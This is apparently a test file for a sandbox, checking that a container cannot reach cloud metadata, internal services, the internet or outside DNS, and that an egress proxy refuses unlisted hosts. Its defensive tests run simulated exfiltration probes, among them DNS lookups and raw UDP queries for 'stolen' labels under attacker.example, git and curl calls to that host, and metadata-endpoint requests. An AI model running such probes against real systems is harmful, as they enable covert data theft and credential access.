import { connect } from "node:net";
import { insidePlace } from "@remote-claude/protocol";
import { expect, it } from "vitest";
import { hostAddress } from "../testing/stack.ts";
import { names, type Scene } from "./scene.ts";

/** Addresses, ports and names. */
export function itHasNoNetwork(scene: Scene): void {
  const reachedFromHere = (host: string) =>
    new Promise<string>((resolve, reject) => {
      const socket = connect({ host, port: scene.bystanderPort });
      socket.once("data", (data) => resolve(String(data)));
      socket.once("error", reject);
    });

  it("has a network card", async () => {
    expect(await scene.attack("ls /sys/class/net")).toBe("lo");
    expect(
      await scene.attack("cat /proc/net/route /proc/net/ipv6_route | grep -v -w lo | grep -v Iface"),
    ).toBe("");
  });

  it.each([
    ["172.17.0.1, this machine as containers know it", "172.17.0.1"],
    ["169.254.169.254, where clouds hand out credentials", "169.254.169.254"],
    ["1.1.1.1, the internet", "1.1.1.1"],
    ["10.0.0.1, a network of the organisation's", "10.0.0.1"],
  ])("reaches %s", async (_, host) => {
    // Whom nothing holds back reaches this machine: silence inside is the wall's doing.
    if (host === (await hostAddress())) expect(await reachedFromHere(host)).toBe("reached");
    expect(await scene.dial(host, scene.bystanderPort)).toMatch(/ENETUNREACH|EHOSTUNREACH/);
  });

  it("reaches this machine at the address that the engine has given it, whatever that is", async () => {
    expect(await reachedFromHere(await hostAddress())).toBe("reached");
    expect(await scene.dial(await hostAddress(), scene.bystanderPort)).toMatch(/ENETUNREACH|EHOSTUNREACH/);
  });

  it("reaches gateway, api, egress, session-manager, Postgres, Redis or the S3 server on loopback", async () => {
    const services = ["api", "egress", "session-manager", "web"];
    const environments = await Promise.all(services.map((name) => scene.product.environmentOf(name)));
    const ports = environments.flatMap((environment) =>
      ["API_PORT", "EGRESS_PORT", "MANAGER_PORT", "WEB_PORT"].flatMap((name) => environment[name] ?? []),
    );
    ports.push(new URL(scene.product.url).port, "5432", "6379", "9000");
    const database = new URL(environments[0]?.DATABASE_URL ?? "").searchParams.get("host");
    const targets = [...ports.map((port) => `127.0.0.1:${port}`), `${database}/.s.PGSQL.5432`];
    const outcomes = JSON.parse(await scene.attack(`node tools/dial.mjs '${targets.join("' '")}'`));
    expect(Object.keys(outcomes).length).toBeGreaterThan(7);
    for (const target of targets) expect(outcomes[target], target).toMatch(/^(ECONNREFUSED|ENOENT)$/);
  });

  it("is led to this machine, its neighbours or an unlisted host by the proxy", async () => {
    const port = scene.bystanderPort;
    const targets = [
      `http://127.0.0.2:${port}/`,
      `http://${await hostAddress()}:${port}/`,
      "http://169.254.169.254/latest/meta-data/",
      `http://localhost:${port}/`,
      "http://[::ffff:127.0.0.1]/",
      "https://attacker.example/",
    ];
    for (const target of targets) {
      const said = await scene.askProxy(target);
      expect(said, target).toMatch(/403/);
      expect(said, target).not.toMatch(/200|reached/);
    }
  });
}

/** What can be told to somebody outside by asking for names. */
export function itTellsNothingByNames(scene: Scene): void {
  const asked = (part: string) => scene.resolver.asked.filter((name) => name.includes(part));

  it("looks a name up: not by the system, not by a resolver of its own, not by bare packets to port 53", async () => {
    expect(await scene.attack("getent hosts stolen-1.attacker.example || echo none")).toBe("none");
    expect(
      await scene.attack(
        `node -e 'require("dns").promises.resolve("stolen-2.attacker.example").catch((e)=>console.log(e.code))'`,
      ),
    ).toMatch(/^(ECONNREFUSED|ETIMEOUT|ENOTFOUND)$/);
    // To a public resolver, this machine, the engine's own resolver, and the one that answers here.
    for (const server of ["8.8.8.8", "172.17.0.1", "127.0.0.11", "127.0.0.71"]) {
      const question =
        "\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x08stolen-3\\x07example\\x00\\x00\\x01\\x00\\x01";
      const send = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("${server}",53)); s.send(b"${question}"); print("answered", s.recv(512))`;
      const said = await scene.attack(`python3 -c '${send}'`);
      expect(said, server).toMatch(/Network is unreachable|Connection refused|timed out/);
    }
    expect(asked("stolen-")).toEqual([]);
  });

  it("has a name looked up for it by asking the way out for a host that is not on the list", async () => {
    const ways = [
      "http://stolen-4.attacker.example/",
      "https://stolen-5.attacker.example/",
      "http://stolen-6.attacker.example:53/",
    ];
    for (const url of ways) expect(await scene.askProxy(url), url).toMatch(/403/);
    const git = `git ls-remote https://stolen-7.attacker.example/x.git 2>&1`;
    expect(await scene.attack(git)).toMatch(/stolen-7\.attacker\.example is not on/);
    expect(
      await scene.attack(
        `curl -sS -o /dev/null -w '%{http_code}' -H 'Host: stolen-8.attacker.example' http://127.0.0.1:${insidePlace.egressPort}/v1/models`,
      ),
    ).not.toBe("000");
    // Whom nobody refuses is looked up, by the very resolver that heard nothing of the others.
    expect(await scene.askProxy(`http://${names.listed}/`)).toMatch(/^public at \/ 200/);
    expect(asked(names.listed)).not.toEqual([]);
    expect(asked("stolen-")).toEqual([]);
  });
}
